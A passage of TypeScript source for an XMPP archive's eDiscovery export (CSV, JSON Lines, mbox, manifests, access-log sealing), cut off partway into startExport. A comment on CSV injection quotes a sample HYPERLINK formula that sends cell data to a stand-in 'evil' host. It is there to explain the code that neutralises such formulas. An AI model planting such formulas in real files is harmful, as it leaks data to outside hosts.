// eDiscovery export: every archived message meeting the archive search's filters, streamed as
// one file (JSON Lines, CSV or an mbox of RFC 5322 messages) with a manifest (the `exports`
// table, migrations/0008 and 0012) holding the count, byte length and SHA-256 of the file.
//
// Bounded memory for any number of rows and any size of message: the archive is walked oldest
// first in keyset batches on (ts, id) (archive-search.ts readArchive — the search's own filters
// and query plan), one statement per batch, never a server-side cursor (the embedded store serves
// one connection at a time, and a portal held open across batches would block every other query
// for the whole export). A batch has as many rows as fit EXPORT_BATCH_BYTES when every body is as
// large as the archive allows (exportBatchRows); the next batch is read while one is recorded and
// sent, with only as many rows as still fit that budget beside it (exportAheadRows, none for a
// batch of the largest bodies), so the bound holds for the two. The file is produced in chunks of at most
// EXPORT_CHUNK_BYTES, only when the consumer pulls (exportRun().stream is a Readable over an async
// generator), so a slow client slows the walk instead of filling memory. LiveExports bounds how
// many run at once.
//
// Every message is on the access log before it leaves (issue #5): each batch's stanza ids are
// committed to export_messages (migrations/0013) before any of its messages is formatted into
// the file — one INSERT … SELECT FROM unnest per batch, as the archive is read — and the end entry
// seals them (count and SHA-256, MessageIdDigest), so "who saw message X" finds the export
// whatever the message's place in it, also for an export cut off or interrupted.
//
// Complete means received: the run does not decide its own end. Whoever sends the file calls
// finish() with what was delivered — the HTTP route once the response has been handed to the
// network in full (trailers included) or the connection closed before — so a client that went
// away with megabytes still in flight finds the export failed, with the messages and bytes that
// did go out. The SHA-256 in a manifest is of the file the server produced: a client checks its
// download against it.
//
// Order: oldest first, (ts, id) — the order a reviewer reads a matter in and the order the
// writers' hash chains grow; each row carries its chain, sequence and hash so any message in a
// produced file can be checked against the archive (GET /api/v1/archive/verify).
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { domainToASCII } from 'node:url';
import type { Sql } from 'postgres';
import type { Principal } from '../api/principal.ts';
import { silentLogger, type Logger } from '../log.ts';
import { MessageIdDigest } from './access-log.ts';
import { MAX_LOGGED_MESSAGE_IDS, SYSTEM_PRINCIPAL, type AccessLog } from './access-log.types.ts';
import { readArchive, type ArchiveCursor, type ArchiveRecord, type ArchiveSearchFilters, type ArchiveSearchQuery } from './archive-search.ts';

export type ExportFormat = 'jsonl' | 'csv' | 'eml';
export const EXPORT_FORMATS: readonly ExportFormat[] = ['jsonl', 'csv', 'eml'];
export const DEFAULT_EXPORT_BATCH = 1000;

/** The search filters of an export: the archive search's, without paging. */
export type ExportFilters = ArchiveSearchFilters;

// ---------------------------------------------------------------------------------------------
// Formats (pure)

export interface ExportFormatter {
  readonly contentType: string;
  /** File name extension. */
  readonly extension: string;
  /** Bytes before the first message (CSV's header row), '' for none. */
  readonly head: string;
  /** One message, with its terminator. */
  message(r: ArchiveRecord): string;
}

/** The fields every format carries, in this order (CSV's columns). */
export const EXPORT_FIELDS = [
  'id',
  'ts',
  'from',
  'to',
  'type',
  'direction',
  'verdict',
  'matches',
  'body',
  'thread',
  'policyVersion',
  'chain',
  'chainSeq',
  'hash',
] as const;

type ExportRow = Record<(typeof EXPORT_FIELDS)[number], unknown>;

function exportRow(r: ArchiveRecord): ExportRow {
  const m = r.message;
  return {
    id: m.id,
    ts: m.ts.toISOString(),
    from: m.from,
    to: m.to,
    type: m.type,
    direction: m.direction,
    verdict: m.verdict,
    matches: m.matches,
    body: m.body,
    thread: m.thread,
    policyVersion: m.policyVersion,
    chain: r.chain?.chain ?? null,
    chainSeq: r.chain?.chainSeq ?? null,
    hash: r.chain?.hash ?? null,
  };
}

/** JSON Lines: one JSON object per message and line (JSON.stringify escapes newlines in strings). Lossless. */
export function jsonlLine(r: ArchiveRecord): string {
  return JSON.stringify(exportRow(r)) + '\n';
}

// Spreadsheet programs evaluate a cell that starts with one of these as a formula: a body like
// `=HYPERLINK("http://evil/?"&A1,"click")` or `@SUM(…)` would run when an officer opens the
// export in Excel or LibreOffice (CSV injection, OWASP). A leading apostrophe makes the program
// show the text as it is. Tab and CR are on the same list because some programs strip them and
// then see the next character. The price: such a cell's text gains a leading ' — the JSON Lines
// export is the lossless one.
const FORMULA_START = /^[=+\-@\t\r]/;

/** One CSV cell, RFC 4180 §2: always quoted, inner quotes doubled; formula-neutralised. */
export function csvCell(value: unknown): string {
  let text = value === null || value === undefined ? '' : typeof value === 'string' ? value : typeof value === 'object' ? JSON.stringify(value) : String(value);
  if (FORMULA_START.test(text)) text = `'${text}`;
  return `"${text.replace(/"/g, '""')}"`;
}

/** One CSV record, RFC 4180 §2: cells joined by commas, ended by CRLF. */
export function csvRecord(cells: readonly unknown[]): string {
  return cells.map(csvCell).join(',') + '\r\n';
}

export function csvLine(r: ArchiveRecord): string {
  const row = exportRow(r);
  return csvRecord(EXPORT_FIELDS.map((f) => row[f]));
}

// The UTF-8 byte order mark: without it Excel reads a CSV file in the machine's legacy code page
// and shows Chinese as mojibake. RFC 4180 neither needs nor forbids it.
const UTF8_BOM = '\uFEFF';
export const CSV_HEAD = UTF8_BOM + csvRecord(EXPORT_FIELDS);

const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad2 = (n: number) => String(n).padStart(2, '0');
const hms = (d: Date) => `${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}`;

/** RFC 5322 §3.3 date-time in UTC: `Fri, 01 Mar 2024 00:00:03 +0000`. */
export function rfc5322Date(d: Date): string {
  return `${DAYS[d.getUTCDay()]}, ${pad2(d.getUTCDate())} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ${hms(d)} +0000`;
}

/** C asctime() in UTC, the date of an mbox "From " line (RFC 4155 App. A): `Fri Mar  1 00:00:03 2024`. */
export function asctime(d: Date): string {
  return `${DAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${hms(d)} ${d.getUTCFullYear()}`;
}

// RFC 2047 §2: an encoded-word is at most 75 characters; `=?UTF-8?B?` + `?=` leave 63 for
// base64, i.e. 45 bytes of UTF-8 (a multiple of 3, so no padding inside a word).
const WORD_BYTES = 45;

/**
 * `text` as RFC 2047 B encoded-words (UTF-8), split between characters, separated by spaces (where
 * headerField folds). `firstWordBytes` makes the first word short enough to share a line with the
 * field name (some readers keep the space of a fold right after the colon as part of the value).
 */
export function encodedWords(text: string, firstWordBytes = WORD_BYTES): string {
  const words: string[] = [];
  let chunk: Buffer[] = [];
  let size = 0;
  for (const ch of text) {
    const bytes = Buffer.from(ch, 'utf8');
    if (size + bytes.length > (words.length === 0 ? firstWordBytes : WORD_BYTES) && size > 0) {
      words.push(Buffer.concat(chunk).toString('base64'));
      chunk = [];
      size = 0;
    }
    chunk.push(bytes);
    size += bytes.length;
  }
  if (size > 0 || words.length === 0) words.push(Buffer.concat(chunk).toString('base64'));
  // Whitespace between adjacent encoded-words is not part of the text (RFC 2047 §6.2).
  return words.map((w) => `=?UTF-8?B?${w}?=`).join(' ');
}

const PRINTABLE_ASCII = /^[\x20-\x7e]*$/;
// RFC 5322 §2.1.1: lines SHOULD be at most 78 characters (and MUST be at most 998).
const LINE = 78;

/** Folds a header line at spaces (RFC 5322 §2.2.3: unfolding removes the line breaks and keeps the space). */
export function fold(line: string): string {
  if (line.length <= LINE) return line;
  const [first = '', ...rest] = line.split(' ');
  let out = first;
  let width = first.length;
  for (const part of rest) {
    if (width + 1 + part.length > LINE) {
      out += `\n ${part}`;
      width = 1 + part.length;
    } else {
      out += ` ${part}`;
      width += 1 + part.length;
    }
  }
  return out;
}

/**
 * One header field, folded. Unstructured values (RFC 5322 §3.2.5) stay as they are when they
 * are printable ASCII that folds into short lines; anything else (UTF-8, a long unbroken token,
 * text that looks like an encoded-word) becomes RFC 2047 encoded-words. Structured values are
 * the caller's to make valid.
 */
export function headerField(name: string, value: string, structured = false): string {
  if (structured) return fold(`${name}: ${value}`);
  if (PRINTABLE_ASCII.test(value) && !value.includes('=?')) {
    const folded = fold(`${name}: ${value}`);
    if (folded.split('\n').every((l) => l.length <= LINE)) return folded;
  }
  // What fits on the first line after "Name: " and the word's own 12 characters, in whole base64 groups.
  const firstWordBytes = Math.max(3, Math.min(WORD_BYTES, Math.floor((LINE - name.length - 2 - 12) / 4) * 3));
  return fold(`${name}: ${encodedWords(value, firstWordBytes)}`);
}

const bareOf = (jid: string) => {
  const slash = jid.indexOf('/');
  return slash < 0 ? jid : jid.slice(0, slash);
};

// RFC 5322 §3.6.4: msg-id is "<" dot-atom-text "@" ... ">"; §3.4.1: an addr-spec's local-part is a dot-atom.
const DOT_ATOM = /^[A-Za-z0-9!#$%&'*+/=?^_`{|}~-]+(\.[A-Za-z0-9!#$%&'*+/=?^_`{|}~-]+)*$/;
// RFC 5321 §4.5.3.1.1: a local-part of at most 64 octets.
const MAX_LOCAL = 64;

/**
 * A JID's localpart as an RFC 5322 local-part: itself when it is an ASCII dot-atom of at most 64
 * octets; otherwise `b64.` and its UTF-8 in base64url when that fits (张三 → b64.5byg5LiJ, reversible);
 * otherwise `sha256.` and the first 40 hex digits of its SHA-256. RFC 5322 (not RFC 6532) headers
 * are ASCII, and no line may pass 998 octets: a 1023-byte localpart would. The JID itself is in
 * the display name and X-Warden-From/-To.
 */
export function asciiLocalPart(local: string): string {
  if (DOT_ATOM.test(local) && local.length <= MAX_LOCAL) return local;
  const b64 = `b64.${Buffer.from(local, 'utf8').toString('base64url')}`;
  if (b64.length <= MAX_LOCAL) return b64;
  return `sha256.${createHash('sha256').update(local, 'utf8').digest('hex').slice(0, 40)}`;
}

/** A domain as ASCII: IDNA A-labels (RFC 5891) for an internationalised one; `invalid` (RFC 2606) for one that has none. */
export function asciiDomain(domain: string): string {
  const ascii = domainToASCII(domain);
  return ascii !== '' && ascii.length <= 253 && /^[A-Za-z0-9.-]+$/.test(ascii) ? ascii : 'invalid';
}

/** A bare JID as an ASCII addr-spec (RFC 5322 §3.4.1); JIDs without a localpart (a server) become postmaster@. */
export function addrSpec(jid: string): string {
  const bare = bareOf(jid);
  const at = bare.lastIndexOf('@');
  return at < 0 ? `postmaster@${asciiDomain(bare)}` : `${asciiLocalPart(bare.slice(0, at))}@${asciiDomain(bare.slice(at + 1))}`;
}

/**
 * The display name for a JID: the JID itself as a quoted-string (short printable ASCII) or as one
 * RFC 2047 encoded-word (§5(3)); a JID too long for either (a resource may be 1023 bytes, RFC 7622
 * §3.4) is cut to whole characters and ends with "…". One word, not several: readers disagree on
 * the space between adjacent encoded-words in a phrase (RFC 2047 §6.2 says it is not there;
 * Python's email package keeps it). The exact JID is in X-Warden-From/-To.
 */
function displayName(jid: string): string {
  if (PRINTABLE_ASCII.test(jid) && !/["\\]/.test(jid) && jid.length <= 60) return `"${jid}"`;
  if (Buffer.byteLength(jid, 'utf8') <= WORD_BYTES) return encodedWords(jid);
  let cut = '';
  let size = 0;
  for (const ch of jid) {
    const n = Buffer.byteLength(ch, 'utf8');
    if (size + n > WORD_BYTES - 3) break; // "…" is 3 bytes
    cut += ch;
    size += n;
  }
  return encodedWords(`${cut}…`);
}

/** An address (RFC 5322 §3.4): the ASCII addr-spec, with a display name when the addr-spec does not say it all (a resource, or a JID that had to be encoded). */
function mailbox(jid: string): string {
  const addr = addrSpec(jid);
  return addr === jid ? `<${addr}>` : `${displayName(jid)} <${addr}>`;
}

function messageId(stanzaId: string, domain: string): string {
  const left = DOT_ATOM.test(stanzaId) ? stanzaId : `b64.${Buffer.from(stanzaId, 'utf8').toString('base64url')}`;
  return `<${left}@${asciiDomain(domain)}>`;
}

/** mboxrd (RFC 4155 §2's ">From " escaping, reversible): every line matching /^>*From / gains one '>'. */
export function mboxrdQuote(text: string): string {
  return text.replace(/^(>*From )/gm, '>$1');
}

/** base64 in lines of 76 characters (RFC 2045 §6.8). */
function base64Lines(data: Buffer): string {
  const b64 = data.toString('base64');
  const lines: string[] = [];
  for (let i = 0; i < b64.length; i += 76) lines.push(b64.slice(i, i + 76));
  return lines.join('\n');
}

/**
 * One message of the mbox: a "From " separator line (sender, asctime), the RFC 5322 message,
 * and the blank line that ends it (RFC 4155 App. A). Lines end with LF, as in mbox files
 * written by Unix mail tools (readers restore CRLF when they hand a message on). The body is a
 * UTF-8 text/plain part in base64 (RFC 2045 §6.8), so Chinese and any other text survives
 * every reader, and no body line can start with "From "; mboxrd quoting is applied all the same.
 * X-Warden-* headers carry what RFC 5322 has no field for. Headers are ASCII (addresses by
 * addrSpec, text in encoded-words) and folded: every line stays within 78 characters, the 998 of
 * RFC 5322 §2.1.1 at worst.
 */
export function mboxMessage(r: ArchiveRecord, domain: string): string {
  const m = r.message;
  const fromBare = bareOf(m.from);
  const toBare = bareOf(m.to);
  // The "From " line names the sender by the same ASCII address as the From header: one token.
  const envelope = addrSpec(m.from);
  const headers: [string, string][] = [
    ['From', mailbox(m.from)],
    ['To', mailbox(m.to)],
    // The JIDs exactly as archived (encoded-words when they are not ASCII).
    ['X-Warden-From', m.from],
    ['X-Warden-To', m.to],
    ['Date', rfc5322Date(m.ts)],
    ['Message-ID', messageId(m.id, domain)],
    ['Subject', `XMPP ${m.type} message from ${fromBare} to ${toBare}`],
    ['MIME-Version', '1.0'],
    ['Content-Type', 'text/plain; charset=utf-8'],
    ['Content-Transfer-Encoding', 'base64'],
    ['X-Warden-Stanza-Id', m.id],
    ['X-Warden-Timestamp', m.ts.toISOString()],
    ['X-Warden-Type', m.type],
    ['X-Warden-Direction', m.direction],
    ['X-Warden-Verdict', m.verdict],
    ['X-Warden-Policy-Version', String(m.policyVersion)],
  ];
  if (m.thread !== null) headers.push(['X-Warden-Thread', m.thread]);
  if (m.matches.length > 0) headers.push(['X-Warden-Matches', JSON.stringify(m.matches)]);
  if (r.chain !== undefined) headers.push(['X-Warden-Chain', `${r.chain.chain} ${r.chain.chainSeq} ${r.chain.hash}`]);
  const structured = new Set(['From', 'To', 'Date', 'Message-ID', 'MIME-Version', 'Content-Type', 'Content-Transfer-Encoding']);
  const head = headers.map(([name, value]) => headerField(name, value, structured.has(name))).join('\n');
  // RFC 2045 §6.8: text line breaks become CRLF before base64 encoding.
  const body = base64Lines(Buffer.from((m.body ?? '').replace(/\r?\n/g, '\r\n'), 'utf8'));
  return `From ${envelope} ${asctime(m.ts)}\n${mboxrdQuote(`${head}\n\n${body}`)}\n\n`;
}

export function exportFormatter(format: ExportFormat, domain: string): ExportFormatter {
  switch (format) {
    case 'jsonl':
      return { contentType: 'application/x-ndjson; charset=utf-8', extension: 'jsonl', head: '', message: jsonlLine };
    case 'csv':
      // RFC 4180 §3 / RFC 7111: text/csv with charset and header parameters.
      return { contentType: 'text/csv; charset=utf-8; header=present', extension: 'csv', head: CSV_HEAD, message: csvLine };
    case 'eml':
      return { contentType: 'application/mbox', extension: 'mbox', head: '', message: (r) => mboxMessage(r, domain) };
  }
}

// ---------------------------------------------------------------------------------------------
// The walk

/** Memory for one batch of archive rows (their protocol buffers and decoded strings). */
export const EXPORT_BATCH_BYTES = 64 * 1024 * 1024;
/** The largest message body the archive can hold by default (MAX_STANZA_BYTES). */
export const DEFAULT_MAX_MESSAGE_BYTES = 262_144;
/** What a row costs besides its body: JIDs, thread, matches, chain place, object headers. */
const ROW_OVERHEAD_BYTES = 16 * 1024;

/**
 * Pure: rows per batch so that a batch of the largest possible messages fits `budget`. A row
 * costs about twice its body while a batch is held — postgres.js's protocol buffer and the
 * decoded string (two bytes a character once any is outside Latin-1) — so the bound holds
 * whatever the bodies are, not only on average. 1000 at most: past that, fewer queries do not
 * make an export faster.
 */
export function exportBatchRows(maxMessageBytes: number, budget = EXPORT_BATCH_BYTES): number {
  const perRow = 2 * maxMessageBytes + ROW_OVERHEAD_BYTES;
  return Math.max(1, Math.min(DEFAULT_EXPORT_BATCH, Math.floor(budget / perRow)));
}

/** Pure: what a batch holds in memory by the rule exportBatchRows sizes batches by (twice each body, plus a row's overhead). */
export function exportBatchBytes(records: readonly ArchiveRecord[]): number {
  let bytes = 0;
  for (const r of records) bytes += 2 * Buffer.byteLength(r.message.body ?? '', 'utf8') + ROW_OVERHEAD_BYTES;
  return bytes;
}

/**
 * Pure: rows to read ahead while a batch holding `heldBytes` is sent, so that it and a next batch
 * of the largest possible messages together fit `budget` (0: none fit; read after it is sent).
 */
export function exportAheadRows(heldBytes: number, maxMessageBytes: number, budget = EXPORT_BATCH_BYTES): number {
  const perRow = 2 * maxMessageBytes + ROW_OVERHEAD_BYTES;
  return Math.max(0, Math.min(DEFAULT_EXPORT_BATCH, Math.floor((budget - heldBytes) / perRow)));
}

export interface WalkOptions {
  /**
   * Rows of the next batch to read while the consumer handles `batch` (read-ahead), or 0 to read
   * it only when asked. Default 0.
   */
  readonly aheadRows?: (batch: readonly ArchiveRecord[]) => number;
}

/**
 * Every row meeting `filters`, oldest first, in batches of at most `batchSize`, each read when the
 * consumer asks for it — or, with `aheadRows`, while the consumer handles the batch before.
 */
export async function* walkArchive(sql: Sql, filters: ExportFilters, batchSize = DEFAULT_EXPORT_BATCH, opts: WalkOptions = {}): AsyncGenerator<ArchiveRecord[]> {
  const read = (limit: number, cursor?: ArchiveCursor) => {
    const query: ArchiveSearchQuery = { ...filters, limit, ...(cursor !== undefined && { cursor }) };
    return readArchive(sql, query, { order: 'oldest-first', withChain: true });
  };
  let next = read(batchSize);
  for (;;) {
    const { records, more } = await next;
    const last = records[records.length - 1];
    if (last === undefined) return;
    const ahead = more ? Math.min(batchSize, opts.aheadRows?.(records) ?? 0) : 0;
    if (ahead > 0) {
      next = read(ahead, last.key);
      // Awaited below; a consumer that stops first leaves it unobserved.
      next.catch(() => {});
    }
    yield records;
    if (!more) return;
    if (ahead <= 0) next = read(batchSize, last.key);
  }
}

// ---------------------------------------------------------------------------------------------
// Manifests (the `exports` table)

export type ExportStatus = 'running' | 'complete' | 'failed';

/**
 * Why an export failed: the client went away before it had received all of it ('disconnected'),
 * reading or recording failed ('error'), the server stopped ('shutdown'), or the process ended
 * without recording the end, found at the next start ('interrupted').
 */
export type ExportFailure = 'disconnected' | 'error' | 'shutdown' | 'interrupted';

export interface ExportManifest {
  readonly id: string;
  readonly account: string;
  readonly format: ExportFormat;
  /** The filters the file holds, `until` included (the moment the export started when none was given). */
  readonly query: Record<string, unknown>;
  readonly status: ExportStatus;
  /** complete: messages in the file. failed: messages wholly sent before the failure. */
  readonly count: number | null;
  /** SHA-256 (hex) of the file this server produced, when complete. */
  readonly sha256: string | null;
  /** complete: the file's length. failed: bytes handed to the network before the failure. */
  readonly bytes: number | null;
  readonly failure: ExportFailure | null;
  readonly createdAt: Date;
  readonly finishedAt: Date | null;
}

interface ManifestRow {
  id: string;
  account: string;
  format: ExportFormat;
  query: Record<string, unknown>;
  status: ExportStatus;
  message_count: string | null;
  sha256: string | null;
  bytes: string | null;
  failure: ExportFailure | null;
  created_at: Date;
  finished_at: Date | null;
}

const toManifest = (r: ManifestRow): ExportManifest => ({
  id: String(r.id),
  account: r.account,
  format: r.format,
  query: r.query,
  status: r.status,
  count: r.message_count === null ? null : Number(r.message_count),
  sha256: r.sha256,
  bytes: r.bytes === null ? null : Number(r.bytes),
  failure: r.failure,
  createdAt: r.created_at,
  finishedAt: r.finished_at,
});

const MANIFEST_COLUMNS = 'id, account, format, query, status, message_count, sha256, bytes, failure, created_at, finished_at';

export async function getExport(sql: Sql, id: string): Promise<ExportManifest | undefined> {
  if (!/^[1-9]\d{0,18}$/.test(id)) return undefined;
  const [row] = await sql<ManifestRow[]>`SELECT ${sql.unsafe(MANIFEST_COLUMNS)} FROM exports WHERE id = ${id}::bigint`;
  return row === undefined ? undefined : toManifest(row);
}

/** Newest first; `beforeId` exclusive. One more than `limit` is read to tell whether a next page exists. */
export async function listExports(sql: Sql, opts: { limit: number; beforeId?: string }): Promise<{ items: ExportManifest[]; more: boolean }> {
  const rows = await sql<ManifestRow[]>`
    SELECT ${sql.unsafe(MANIFEST_COLUMNS)} FROM exports ${opts.beforeId === undefined ? sql`` : sql`WHERE id < ${opts.beforeId}::bigint`}
    ORDER BY id DESC LIMIT ${opts.limit + 1}`;
  return { items: rows.slice(0, opts.limit).map(toManifest), more: rows.length > opts.limit };
}

/**
 * At start-up, before this node serves exports: manifests this node's previous process left
 * 'running' (it ended without recording how its exports ended) become failed ('interrupted'),
 * each with an access-log entry. Manifests of other nodes are theirs to settle; those from before
 * nodes were recorded (node NULL) are taken as this node's. Returns the ids.
 */
export async function failInterruptedExports(sql: Sql, accessLog: AccessLog, node: string): Promise<string[]> {
  const rows = await sql<{ id: string; account: string; format: ExportFormat; query: Record<string, unknown> }[]>`
    UPDATE exports SET status = 'failed', failure = 'interrupted', finished_at = clock_timestamp()
    WHERE status = 'running' AND (node = ${node} OR node IS NULL)
    RETURNING id, account, format, query`;
  for (const r of rows) await recordLateEnd(sql, accessLog, { ...r, id: String(r.id) }, { phase: 'failed', failure: 'interrupted' });
  return rows.map((r) => String(r.id));
}

/**
 * At start, after failInterruptedExports: an export that ended (its manifest no longer says
 * running) while its end entry could not be written (the database failed at that moment) has
 * recorded ids no entry seals, which access-log verify reports for ever. The process that knew
 * what was sent is gone, so the seal comes late, from the system, over every recorded id (each
 * may have been sent). Verify stays red until this runs: an auditor sees the gap, then who closed it.
 */
export async function sealUnloggedExportEnds(sql: Sql, accessLog: AccessLog): Promise<string[]> {
  const rows = await sql<{ id: string; account: string; format: ExportFormat; query: Record<string, unknown>; status: string; failure: string | null }[]>`
    SELECT e.id::text AS id, e.account, e.format, e.query, e.status, e.failure FROM exports e
    WHERE e.status <> 'running'
      AND EXISTS (SELECT 1 FROM export_messages m WHERE m.export_id = e.id)
      AND NOT EXISTS (
        SELECT 1 FROM access_log a
        WHERE a.action = 'export' AND a.detail ->> 'exportId' = e.id::text AND a.detail ->> 'idsSha256' IS NOT NULL)
    ORDER BY e.id`;
  for (const r of rows) await recordLateEnd(sql, accessLog, r, { phase: 'sealed-late', status: r.status, ...(r.failure !== null && { failure: r.failure }) });
  return rows.map((r) => r.id);
}

/**
 * The end entry the system writes for an export whose own process could not: what reached the
 * client is unknown (the process that knew is gone), and every message it recorded may have
 * (ids are recorded before their batch is sent), so the entry counts and seals them all.
 */
async function recordLateEnd(
  sql: Sql,
  accessLog: AccessLog,
  e: { readonly id: string; readonly account: string; readonly format: ExportFormat; readonly query: Record<string, unknown> },
  end: Record<string, unknown>,
): Promise<void> {
  const recorded = await recordedIds(sql, e.id);
  await accessLog.record({
    principal: SYSTEM_PRINCIPAL,
    ip: 'server',
    action: 'export',
    query: { ...e.query, format: e.format },
    messageIds: recorded.first,
    messageCount: recorded.digest.count,
    detail: { exportId: e.id, ...end, account: e.account, ...sealOf(recorded.digest) },
  });
}

/** The end entry's seal over an export's recorded ids (checked by access-log verify). */
const sealOf = (digest: MessageIdDigest) => ({ idsRecorded: digest.count, idsSha256: digest.hex() });

/** An export's ids as export_messages holds them: their digest and the first MAX_LOGGED_MESSAGE_IDS. */
async function recordedIds(sql: Sql, exportId: string, batchSize = 10_000): Promise<{ digest: MessageIdDigest; first: string[] }> {
  const digest = new MessageIdDigest();
  const first: string[] = [];
  for (;;) {
    const batch = await sql<{ stanza_id: string }[]>`
      SELECT stanza_id FROM export_messages WHERE export_id = ${exportId}::bigint AND ord > ${digest.count} ORDER BY ord LIMIT ${batchSize}`;
    for (const r of batch) {
      if (first.length < MAX_LOGGED_MESSAGE_IDS) first.push(r.stanza_id);
      digest.add(r.stanza_id);
    }
    if (batch.length < batchSize) return { digest, first };
  }
}

// ---------------------------------------------------------------------------------------------
// Exports in progress on this server

export const DEFAULT_MAX_CONCURRENT_EXPORTS = 2;

/**
 * The exports this server is streaming: at most `maxConcurrent` at once (each may hold up to
 * EXPORT_BATCH_BYTES of rows), and the list shutdown waits on so every manifest is written
 * before the database closes.
 */
export class LiveExports {
  private readonly running = new Set<Promise<ExportStatus>>();
  private reserved = 0;
  /** Set by shutdown: exports cut from now on failed because the server stopped. */
  stopping = false;

  constructor(readonly maxConcurrent = DEFAULT_MAX_CONCURRENT_EXPORTS) {
    if (!Number.isInteger(maxConcurrent) || maxConcurrent < 1) throw new RangeError(`maxConcurrent must be a positive integer, got ${maxConcurrent}`);
  }

  get size(): number {
    return this.reserved;
  }

  /** A slot for a new export; false when maxConcurrent are running (or the server is stopping). */
  tryReserve(): boolean {
    if (this.stopping || this.reserved >= this.maxConcurrent) return false;
    this.reserved++;
    return true;
  }

  /** Gives back a slot reserved for an export that did not start. */
  release(): void {
    this.reserved = Math.max(0, this.reserved - 1);
  }

  /** Holds the slot until the run has ended and its manifest is written. */
  track(run: Pick<ExportRun, 'done'>): void {
    const done = run.done;
    this.running.add(done);
    void done.finally(() => {
      this.running.delete(done);
      this.release();
    });
  }

  /** Resolves once every run has written its manifest, or after `ms`; the number still running then. */
  async settle(ms: number): Promise<number> {
    let timer: NodeJS.Timeout | undefined;
    await Promise.race([Promise.allSettled([...this.running]), new Promise<void>((resolve) => (timer = setTimeout(resolve, ms)))]);
    clearTimeout(timer);
    return this.running.size;
  }
}

// ---------------------------------------------------------------------------------------------
// One export run

export interface ExportResult {
  readonly count: number;
  readonly bytes: number;
  /** Hex SHA-256 of the bytes produced. */
  readonly sha256: string;
}

/** How far the file got, as whoever sent it knows (the HTTP route: from the socket). */
export type ExportDelivery =
  /** Every byte, and the end, was handed to the network. */
  | { readonly delivered: true }
  /**
   * Cut off: at least `bytes` had been handed to the network, and at most `maxBytes` (what was
   * given to the connection) can have reached the client. The manifest records the first (the
   * messages surely sent), the access log the second (every message the client may have seen).
   */
  | { readonly delivered: false; readonly bytes: number; readonly maxBytes: number; readonly failure: Exclude<ExportFailure, 'interrupted'> };

export interface ExportRunOptions {
  readonly sql: Sql;
  readonly accessLog: AccessLog;
  readonly principal: Principal;
  readonly ip: string;
  readonly filters: ExportFilters;
  readonly format: ExportFormat;
  /** This server's domain (the mbox Message-IDs). */
  readonly domain: string;
  /** Rows per query (default: exportBatchRows(maxMessageBytes)). */
  readonly batchSize?: number;
  /** The largest body the archive can hold (MAX_STANZA_BYTES), which bounds a batch's memory. */
  readonly maxMessageBytes?: number;
  /** The node streaming it (its manifest says so; see failInterruptedExports). */
  readonly node?: string;
  /** The moment the export starts; rows from then on are not in it (default: now). */
  readonly now?: Date;
  readonly log?: Logger;
}

export interface ExportRun {
  readonly id: string;
  readonly formatter: ExportFormatter;
  readonly manifest: ExportManifest;
  /** The file, in chunks of at most EXPORT_CHUNK_BYTES; read it once. */
  readonly stream: Readable;
  /** Set once the last byte has been produced. */
  result(): ExportResult | undefined;
  /**
   * Bytes known to have been handed to the network so far: lets the run forget its bookkeeping
   * below that point (only the route calls it; without it the bookkeeping is one entry a chunk).
   */
  sent(bytes: number): void;
  /**
   * Ends the run: complete only when the whole file was produced and delivered; otherwise failed,
   * with the count of messages wholly within the bytes delivered. The first call decides; later
   * ones answer the same. Writes the manifest and the access-log entry, then settles `done`.
   */
  finish(delivery: ExportDelivery): Promise<ExportStatus>;
  /** Settles when finish() has written the manifest and the access-log entry. */
  readonly done: Promise<ExportStatus>;
}

/** The file is produced in chunks of at most this many bytes (a message larger than this spans several). */
export const EXPORT_CHUNK_BYTES = 64 * 1024;

const manifestQuery = (f: ExportFilters): Record<string, unknown> => ({
  ...(f.q !== undefined && { q: f.q }),
  ...(f.user !== undefined && { user: f.user }),
  ...(f.peer !== undefined && { peer: f.peer }),
  ...(f.since !== undefined && { since: f.since.toISOString() }),
  ...(f.until !== undefined && { until: f.until.toISOString() }),
  ...(f.verdict !== undefined && { verdict: f.verdict }),
});

/**
 * Pure: where each message ends in the file (and where the head before the first one ends), so a
 * byte count can be turned into messages. Marks below what is known to be delivered are pruned,
 * so the list holds only what is in flight.
 */
export class DeliveryMarks {
  private marks: { bytes: number; count: number }[] = [];
  private floor = { bytes: 0, count: 0 };

  /** The file's first `bytes` bytes end exactly after `count` messages. */
  add(bytes: number, count: number): void {
    this.marks.push({ bytes, count });
  }

  /** Messages wholly within the first `bytes` bytes. */
  countWithin(bytes: number): number {
    let count = this.floor.count;
    for (const m of this.marks) {
      if (m.bytes > bytes) break;
      count = m.count;
    }
    return count;
  }

  /** Messages of which at least one byte is within the first `bytes` bytes. */
  startedWithin(bytes: number): number {
    let previous = this.floor;
    for (const m of this.marks) {
      if (m.bytes > bytes) return m.count > previous.count && bytes > previous.bytes ? m.count : previous.count;
      previous = m;
    }
    return previous.count;
  }

  /** Forgets marks below `bytes` (they can no longer be asked about: delivery only grows). */
  prune(bytes: number): void {
    let i = 0;
    while (i < this.marks.length && this.marks[i]!.bytes <= bytes) i++;
    if (i > 0) {
      this.floor = this.marks[i - 1]!;
      this.marks = this.marks.slice(i);
    }
  }
}

/** startExport could not write the export's start to the access log: nothing was sent (the manifest says failed). */
export class ExportNotRecordedError extends Error {
  override readonly name = 'ExportNotRecordedError';

  constructor(readonly exportId: string, cause: unknown) {
    super(`export ${exportId} was not started: the access log could not record it (${cause instanceof Error ? cause.message : String(cause)})`, { cause });
  }
}

/**
 * Starts an export: writes its manifest (running) and the access-log entry that says who
 * exported what — both before a byte is produced, so an export that is cut off is still on
 * record — and returns the stream. While it streams, each batch's stanza ids go to
 * export_messages before the batch is sent. finish() writes the end: a second access-log entry
 * with the count, the SHA-256, the first MAX_LOGGED_MESSAGE_IDS stanza ids (for a failed export:
 * of the messages begun before it failed) and the seal over every id recorded.
 */
export async function startExport(opts: ExportRunOptions): Promise<ExportRun> {
  const { sql, accessLog, principal, ip, format } = opts;
  const log = opts.log ?? silentLogger;
  const now = opts.now ?? new Date();
